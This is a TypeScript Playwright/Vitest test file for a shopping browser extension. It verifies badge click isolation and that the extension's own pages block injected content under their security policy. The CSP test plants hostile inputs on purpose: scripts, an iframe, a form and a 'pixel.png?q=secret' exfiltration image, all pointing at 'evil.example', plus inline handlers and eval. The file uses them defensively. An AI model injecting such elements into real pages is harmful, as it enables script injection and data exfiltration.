import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Mall } from '../mall/mall.d.mts';
import { startMall } from '../mall/mall.mjs';
import { type ChromiumWithCartwright, launchChromium, type ScreenName } from './harness/chromium';
import { visit } from './harness/shopper';
import { type Sink, startSink } from './harness/sink';

let mall: Mall;
let sink: Sink;
let browser: ChromiumWithCartwright;
let screen: Page;
let shop: Page;

beforeAll(async () => {
  [mall, sink] = await Promise.all([startMall(), startSink()]);
  browser = await launchChromium({ args: sink.args });
  screen = await browser.screen('options');
  shop = await browser.context.newPage();
});

afterAll(async () => {
  await browser?.close();
  await sink?.close();
  await mall?.close();
});

/** How many side panels of ours are open, as the browser itself says. */
const panels = () =>
  screen.evaluate(async () => {
    const { runtime } = (
      globalThis as unknown as {
        chrome: { runtime: { getContexts(filter: object): Promise<readonly object[]> } };
      }
    ).chrome;
    return (await runtime.getContexts({ contextTypes: ['SIDE_PANEL'] })).length;
  });

describe('the badge on a shop’s page', () => {
  const badge = () => shop.locator('cartwright-badge');

  beforeAll(async () => {
    for (const [name, words] of [
      ['cornershop', /whole milk, hollin/i],
      ['greengrocer', /hollin farm.*whole milk/i],
    ] as const) {
      const page = mall.expectations().products.find((each) => each.shop === name && words.test(each.name));
      await visit(shop, screen, page?.url ?? '');
    }
    await shop.bringToFront();
    await badge().waitFor();
  });

  test('keeps its words from the shop', async () => {
    const seen = await badge().evaluate((host) => ({
      root: host.shadowRoot,
      words: host.textContent,
      hasStyle: host.querySelector('*') !== null,
    }));
    expect(seen).toEqual({ root: null, words: '', hasStyle: false });
  });

  test('does nothing when a script of the shop clicks it, and opens the panel when the shopper does (X07)', async () => {
    const middle = await badge().evaluate((host) => {
      const { left, top, width, height } = host.getBoundingClientRect();
      const at = { clientX: left + width / 3, clientY: top + height / 2 };
      for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
        for (const target of [host, document.elementFromPoint(at.clientX, at.clientY) ?? host])
          target.dispatchEvent(
            new MouseEvent(type, { ...at, bubbles: true, composed: true, cancelable: true }),
          );
      (host as HTMLElement).click();
      return at;
    });
    expect(await panels()).toBe(0);
    await shop.mouse.click(middle.clientX, middle.clientY);
    await expect.poll(panels, { timeout: 15_000 }).toBe(1);
    expect(mall.log().filter(({ method }) => method === 'POST')).toEqual([]);
  });
});

const blockedHere = () => [...new Set((globalThis as unknown as { found: string[] }).found)].sort();

describe.each<ScreenName>(['popup', 'sidepanel', 'options'])('our own %s', (name) => {
  test('runs no script that was slipped in, and loads nothing from anywhere (X08)', async () => {
    const page = await browser.screen(name);
    const blocked = await page.evaluate(async () => {
      const found: string[] = [];
      Object.assign(globalThis, { found });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        found.push(effectiveDirective),
      );
      const put = (tag: string, attributes: object) =>
        document.body.append(Object.assign(document.createElement(tag), attributes));
      put('script', { textContent: 'globalThis.slipped = true' });
      put('script', { src: 'http://evil.example/script.js' });
      put('img', { src: 'http://evil.example/pixel.png?q=secret' });
      put('iframe', { src: 'http://evil.example/' });
      put('link', { rel: 'stylesheet', href: 'http://evil.example/style.css' });
      put('object', { data: 'http://evil.example/' });
      put('form', { action: 'http://evil.example/', method: 'post' });
      document.querySelector<HTMLFormElement>('form[action^="http://evil"]')?.submit();
      document.body.insertAdjacentHTML('beforeend', '<b onclick="globalThis.slipped = true">x</b>');
      (document.body.lastElementChild as HTMLElement).click();
      const evaluated = await new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(Reflect.construct(Function, ['return 1'])());
          } catch (error) {
            resolve((error as Error).name);
          }
        });
      });
      return { evaluated, slipped: 'slipped' in globalThis };
    });
    expect(blocked.evaluated).toBe('EvalError');
    expect(blocked.slipped).toBe(false);
    await expect
      .poll(() => page.evaluate(blockedHere))
      .toEqual([
        'form-action',
        'frame-src',
        'img-src',
        'object-src',
        'script-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]);
    expect(sink.hosts()).toEqual([]);
    await page.close();
  });
});

test('what leaves this machine would have been noticed', async () => {
  await shop.goto('http://shop-outside.example/').catch(() => undefined);
  await shop.goto('https://secure-outside.example/').catch(() => undefined);
  await expect
    .poll(() => [...new Set(sink.hosts())].sort(), { timeout: 20_000 })
    .toEqual(['secure-outside.example', 'shop-outside.example']);
});
